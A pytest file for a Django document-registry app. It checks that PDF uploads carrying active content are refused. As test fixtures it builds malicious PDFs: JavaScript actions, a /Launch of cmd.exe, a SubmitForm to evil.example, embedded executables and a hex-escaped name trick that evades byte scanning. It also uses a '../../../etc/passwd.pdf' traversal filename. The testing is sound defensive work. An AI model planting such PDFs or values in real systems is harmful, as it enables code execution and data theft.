"""Uploads: only PDFs by their content, within the size limit, without active content, stored under
generated names outside the web root. Every refusal says why in Thai and changes nothing: no item row,
no register number taken, no file left on disk."""
import re

import pytest
from django.core.files.base import ContentFile
from django.db.models import Sum
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject

from correspondence.models import Channel, IncomingItem, RegisterBook, RegisterEntry
from correspondence.services import receiving, uploads

from hardening_helpers import api, files_under
from pdf_samples import blank_pdf

pytestmark = pytest.mark.django_db


def _js_action(script="app.alert(1)"):
    return DictionaryObject({NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject(script)})


def _open_action_js(w):
    w._root_object[NameObject("/OpenAction")] = w._add_object(_js_action())


def _document_level_js(w):
    tree = DictionaryObject({NameObject("/Names"): ArrayObject([TextStringObject("init"), w._add_object(_js_action())])})
    w._root_object[NameObject("/Names")] = DictionaryObject({NameObject("/JavaScript"): tree})


def _page_open_js(w):
    w.pages[0][NameObject("/AA")] = DictionaryObject({NameObject("/O"): _js_action()})


def _launch(w):
    w._root_object[NameObject("/OpenAction")] = DictionaryObject(
        {NameObject("/S"): NameObject("/Launch"), NameObject("/F"): TextStringObject("cmd.exe")})


def _submit_form(w):
    w.pages[0][NameObject("/AA")] = DictionaryObject({NameObject("/C"): DictionaryObject(
        {NameObject("/S"): NameObject("/SubmitForm"), NameObject("/F"): TextStringObject("https://evil.example/")})})


def _exe_attachment(w):
    w.add_attachment("setup.exe", b"MZ\x90\x00\x03\x00\x00\x00")


def _disguised_exe(w):
    w.add_attachment("minutes.txt", b"\x7fELF\x02\x01\x01\x00")


def _encrypted(w):
    w.encrypt("secret")


def _owner_password_only(w):
    w.encrypt("", "owner-only")


def _hex_escaped_js(data: bytes) -> bytes:
    # /J#53 is /JS and /J#61vaScript is /JavaScript once names are decoded: a byte search misses them.
    return data.replace(b"/JS ", b"/J#53").replace(b"/JavaScript", b"/J#61vaScript")


ACTIVE = "ไฟล์ PDF มีสคริปต์หรือคำสั่งที่ทำงานได้เอง ({}) ซึ่งไม่อนุญาตเพื่อความปลอดภัย กรุณาพิมพ์เป็น PDF ใหม่หรือสแกนเอกสารแล้วส่งอีกครั้ง"

BAD = {
    "gif named .pdf": (b"GIF89a\x01\x00\x01\x00" + b"\x00" * 64, uploads.NOT_PDF),
    "html named .pdf": (b"<html><script>alert(1)</script></html>", uploads.NOT_PDF),
    "zip named .pdf": (b"PK\x03\x04" + b"\x00" * 64, uploads.NOT_PDF),
    "pdf header late": (b"junk before\n" + blank_pdf(), uploads.NOT_PDF),
    "empty": (b"", "ไฟล์ที่ส่งว่างเปล่า"),  # refused by the API before the content check
    "truncated": (blank_pdf()[: len(blank_pdf()) // 2], uploads.TRUNCATED),
    "malformed": (b"%PDF-1.7\n" + bytes(range(256)) * 8 + b"\n%%EOF\n", uploads.MALFORMED),
    "no pages": (b"%PDF-1.4\n%%EOF\n", uploads.MALFORMED),
    "encrypted": (blank_pdf(_encrypted), uploads.ENCRYPTED),
    "owner password only": (blank_pdf(_owner_password_only), uploads.ENCRYPTED),
    "OpenAction JavaScript": (blank_pdf(_open_action_js), ACTIVE.format("JavaScript")),
    "document JavaScript": (blank_pdf(_document_level_js), ACTIVE.format("JavaScript")),
    "page /AA JavaScript": (blank_pdf(_page_open_js), ACTIVE.format("JavaScript")),
    "hex-escaped JavaScript": (_hex_escaped_js(blank_pdf(_open_action_js)), ACTIVE.format("JavaScript")),
    "Launch": (blank_pdf(_launch), ACTIVE.format("Launch")),
    "SubmitForm": (blank_pdf(_submit_form), ACTIVE.format("SubmitForm")),
    "embedded .exe": (blank_pdf(_exe_attachment), uploads.EXECUTABLE.format(name="setup.exe")),
    "embedded ELF named .txt": (blank_pdf(_disguised_exe), uploads.EXECUTABLE.format(name="minutes.txt")),
}


def state(media):
    return (IncomingItem.objects.count(), RegisterEntry.objects.count(),
            RegisterBook.objects.aggregate(n=Sum("last_number"))["n"], files_under(media))


def _scan(client, unit, data, name="letter.pdf", **fields):
    return client.post("/api/v1/items/", {"unit": unit.pk, "channel": Channel.SCAN, "sender_text": "กระทรวงกลาโหม",
                                          "subject": "ขอเชิญประชุม", "pdf": ContentFile(data, name=name), **fields},
                       format="multipart")


@pytest.mark.parametrize("case", sorted(BAD))
def test_bad_upload_is_refused_with_a_clear_message_and_changes_nothing(users, units, media, case):
    data, message = BAD[case]
    clerk, soc = users["soc.clerk"], units["สลค."]
    # Something registered already, so "no number taken" is checked against a real counter.
    first = receiving.incoming_receive(unit=soc, by=clerk, channel=Channel.SCAN, subject="ก", sender_text="ข")
    receiving.incoming_register(first, by=clerk)
    before = state(media)
    response = _scan(api(clerk), soc, data)
    assert response.status_code == 400
    assert response.json()["pdf"] == [message]
    # The prefill endpoint, which reads the file for the clerk, refuses it the same way.
    prefill = api(clerk).post("/api/v1/items/prefill/", {"pdf": ContentFile(data, name="x.pdf")}, format="multipart")
    assert prefill.status_code == 400 and prefill.json()["pdf"] == [message]
    assert state(media) == before


def test_over_the_configured_size_is_refused(users, units, media, settings):
    settings.EOFFICE_MAX_UPLOAD_BYTES = 2 * 1024 * 1024
    big = blank_pdf(lambda w: w.add_attachment("scan.bin", b"\x00" * (2 * 1024 * 1024)))
    before = state(media)
    response = _scan(api(users["soc.clerk"]), units["สลค."], big)
    assert response.status_code == 400 and response.json()["pdf"] == ["ไฟล์ใหญ่เกินกำหนด (ไม่เกิน ๒ เมกะไบต์)"]
    assert state(media) == before


def test_a_good_pdf_is_stored_under_a_generated_name_and_served_only_through_the_permission_check(
        users, units, media):
    data = blank_pdf(lambda w: w.add_attachment("letter.json", b'{"subject": "x"}'))
    clerk = users["soc.clerk"]
    response = _scan(api(clerk), units["สลค."], data, name="../../../etc/passwd.pdf")
    assert response.status_code == 201, response.json()
    item = IncomingItem.objects.get(pk=response.json()["id"])
    assert re.fullmatch(r"incoming/\d{4}/[0-9a-f]{32}\.pdf", item.pdf.name), item.pdf.name
    stored = files_under(media)
    assert stored == [media / item.pdf.name] and stored[0].read_bytes() == data
    # Never by its path: the web server does not serve the media root.
    assert api(clerk).get(f"/media/{item.pdf.name}").status_code == 404
    # Through the API, to those who may see it: the clerk of the unit yes, another ministry's clerk 404.
    download = api(clerk).get(f"/api/v1/items/{item.pk}/download/")
    assert download.status_code == 200 and b"".join(download.streaming_content) == data
    assert api(users["mfa.clerk"]).get(f"/api/v1/items/{item.pk}/download/").status_code == 404
    assert api().get(f"/api/v1/items/{item.pk}/download/").status_code in (401, 403)


def test_the_portals_own_signed_letter_is_accepted(users, units, media):
    from signatures.testing import sample_letter_pdf

    response = _scan(api(users["soc.clerk"]), units["สลค."], sample_letter_pdf(pages=1))
    assert response.status_code == 201, response.json()


def test_media_root_is_outside_the_static_and_code_trees(settings):
    from pathlib import Path

    media = Path(settings.MEDIA_ROOT).resolve()
    for served in [Path(settings.STATIC_ROOT), *map(Path, settings.STATICFILES_DIRS)]:
        served = served.resolve()
        assert media != served and served not in media.parents and media not in served.parents
